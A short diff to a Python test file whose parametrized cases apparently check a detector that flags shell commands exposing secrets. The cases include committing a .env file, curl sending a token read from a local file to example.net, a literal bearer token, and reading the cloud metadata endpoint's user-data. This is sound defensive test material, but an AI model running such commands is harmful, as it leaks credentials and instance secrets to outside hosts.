@@ -64,7 +64,7 @@ def hows(command: str, **env: str) -> set[tuple[str, str]]:
         ("git add -f .env", "commit", ".env"),
         ('curl -H "X-Key: $(cat ~/work/other/token)" https://example.net', "use", "/home/dev/work/other/token"),
         ("curl -H 'Authorization: Bearer ghp_0123456789012345678901' https://api.github.com", "use", "literal"),
-        ("curl http://169.254.169.254/latest/", "read", "the cloud's metadata service at 169.254.169.254"),
+        ("curl http://169.254.169.254/latest/user-data", "read", "the cloud's metadata service at 169.254.169.254"),
     ],
 )
 def test_secrets_in_play(command: str, how: str, source: str) -> None:
